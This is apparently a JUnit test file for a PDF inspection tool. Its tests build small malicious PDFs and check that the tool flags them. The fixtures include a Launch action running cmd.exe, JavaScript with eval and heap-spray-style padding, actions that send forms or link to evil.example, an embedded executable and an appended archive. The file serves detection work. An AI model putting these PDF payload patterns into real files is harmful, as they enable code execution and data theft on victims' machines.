package org.tocsin.readers.files.pdf;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.Deflater;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.junit.jupiter.api.Test;
import org.tocsin.model.Gap;
import org.tocsin.readers.files.Opened;

class PdfOpenerTest {
    private static Opened open(byte[] pdf) {
        return Opened.by(new PdfOpener(), pdf, "file.pdf");
    }

    private static byte[] latin(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    /// A PDF of loose objects, without a cross-reference table.
    private static Opened objects(String... objects) {
        StringBuilder pdf = new StringBuilder("%PDF-1.7\n");
        for (int i = 0; i < objects.length; i++) {
            pdf.append(i + 1).append(" 0 obj\n").append(objects[i]).append("\nendobj\n");
        }
        return open(latin(pdf + "trailer<</Root 1 0 R>>\n%%EOF\n"));
    }

    private static byte[] deflated(byte[] plain) {
        Deflater deflater = new Deflater();
        deflater.setInput(plain);
        deflater.finish();
        byte[] packed = new byte[plain.length + 100];
        int length = deflater.deflate(packed);
        deflater.end();
        return Arrays.copyOf(packed, length);
    }

    private static String stream(String entries, byte[] data) {
        return "<<" + entries + "/Length " + data.length + ">>stream\n" + new String(data, StandardCharsets.ISO_8859_1)
                + "\nendstream";
    }

    @Test
    void tells_actions_and_where_they_lead() {
        Map<String, String> actions = new LinkedHashMap<>();
        actions.put("<</Type/Catalog/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>>>", "pdf-launches");
        actions.put("<</S/JavaScript/JS(app.alert\\(1\\))>>", "pdf-script");
        actions.put("<</S /Java#53cript /J#53 (x)>>", "pdf-name-disguised");
        actions.put("<</S/URI/URI(http://evil.example/)>>", "pdf-link");
        actions.put("<</S/SubmitForm/F(http://evil.example/f)>>", "pdf-sends-form");
        actions.put("<</S/GoToE/F(\\\\\\\\evil.example\\\\s)/D[0/Fit]>>", "pdf-asks-share");
        actions.put("<</S/GoToR/F<</F(http://evil.example/a.pdf)>>>>", "pdf-goes-elsewhere");
        actions.put("<</AA<</O<</S/Named>>>>>>", "pdf-acts-by-itself");
        actions.put("<</Type/Font/FontMatrix[1 0 0 1 0 (0\\); alert\\(1)]>>", "pdf-font-matrix-script");
        actions.forEach(
                (object, word) -> assertThat(objects(object).words()).as(object).contains(word));
        assertThat(objects("<</S/URI/URI(http://evil.example/)>>").all("Url")).containsExactly("http://evil.example/");
    }

    @Test
    void reads_scripts_and_files_behind_chains_of_filters() {
        byte[] script = latin("this.exportDataObject({cName:'a', nLaunch:2}); var s = unescape('" + "%u4141".repeat(30)
                + "'); eval(s); Collab.getIcon('x');");
        String hex = HexFormat.of().formatHex(deflated(script)) + ">";
        Opened opened = objects(
                "<</S/JavaScript/JS 2 0 R>>",
                stream("/Filter[/ASCIIHexDecode/FlateDecode]", latin(hex)),
                "<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>",
                stream("/Type/EmbeddedFile/Filter/FlateDecode", deflated(latin("MZ a program"))));
        assertThat(opened.words())
                .contains(
                        "pdf-script-starts-attachment",
                        "pdf-script-carries-code",
                        "pdf-script-hides",
                        "pdf-call-geticon",
                        "pdf-holds-file");
        assertThat(opened.all("Script.Source").getFirst()).startsWith("this.exportDataObject");
        assertThat(opened.facts().children()).singleElement().satisfies(child -> {
            assertThat(child.name()).isEqualTo("a.exe");
            assertThat(child.bytes()).isEqualTo(latin("MZ a program"));
        });
    }

    @Test
    void reads_objects_that_are_packed_in_others() {
        byte[] inner = latin("7 0 8 30 <</S/JavaScript/JS(evil())>>    <</S/Launch/F(a.exe)>>");
        int first = "7 0 8 30 ".length();
        Opened opened = objects(stream("/Type/ObjStm/N 2/First " + first + "/Filter/FlateDecode", deflated(inner)));
        assertThat(opened.words()).contains("pdf-script");
        assertThat(opened.all("Script.Source")).containsExactly("evil()");
    }

    @Test
    void opens_what_is_encrypted_without_a_password() throws IOException {
        assertThat(open(locked("")).words()).contains("pdf-encrypted", "pdf-script");
        Opened closed = open(locked("secret"));
        assertThat(closed.words()).contains("locked");
        assertThat(closed.facts().faults()).extracting(one -> one.cause()).contains(Gap.Cause.ENCRYPTED);
    }

    private static byte[] locked(String password) throws IOException {
        try (PDDocument document = new PDDocument()) {
            document.addPage(new PDPage());
            document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('hello')"));
            document.protect(new StandardProtectionPolicy("owner", password, new AccessPermission()));
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        }
    }

    @Test
    void tells_what_stands_around_the_document() {
        byte[] pdf = latin("junk%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n");
        byte[] zip = Arrays.copyOf(latin("PK\u0003\u0004"), 200);
        byte[] both = Arrays.copyOf(pdf, pdf.length + zip.length);
        System.arraycopy(zip, 0, both, pdf.length, zip.length);
        Opened opened = open(both);
        assertThat(opened.words()).contains("pdf-late-header", "pdf-more-behind", "pdf-file-behind");
        assertThat(opened.facts().children()).extracting(child -> child.how()).contains("appended");
        assertThat(open(latin("%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n2 0 obj<<>>endobj\n%%EOF"))
                        .words())
                .contains("pdf-updates");
    }

    @Test
    void leaves_calculations_in_forms_alone() {
        Opened opened = objects(
                "<</Type/Catalog/AcroForm<</Fields[2 0 R]>>>>",
                "<</FT/Tx/AA<</C<</S/JavaScript/JS(AFSimple_Calculate\\(\"SUM\", new Array\\(\"a\",\"b\"\\)\\);)>>>>>>");
        assertThat(opened.words()).containsOnly("pdf-script", "pdf-acts-by-itself");
    }

    @Test
    void survives_cuts_flips_and_nesting() throws IOException {
        byte[] pdf = locked("");
        for (int length = 0; length < pdf.length; length += 53) {
            open(Arrays.copyOf(pdf, length));
        }
        for (int at = 0; at < pdf.length; at += 11) {
            byte[] flipped = pdf.clone();
            flipped[at] ^= 0x21;
            open(flipped);
        }
        assertThat(open(latin("%PDF-1.7\n1 0 obj " + "[".repeat(100_000) + "<<".repeat(100_000)))
                        .words())
                .isNotNull();
    }
}
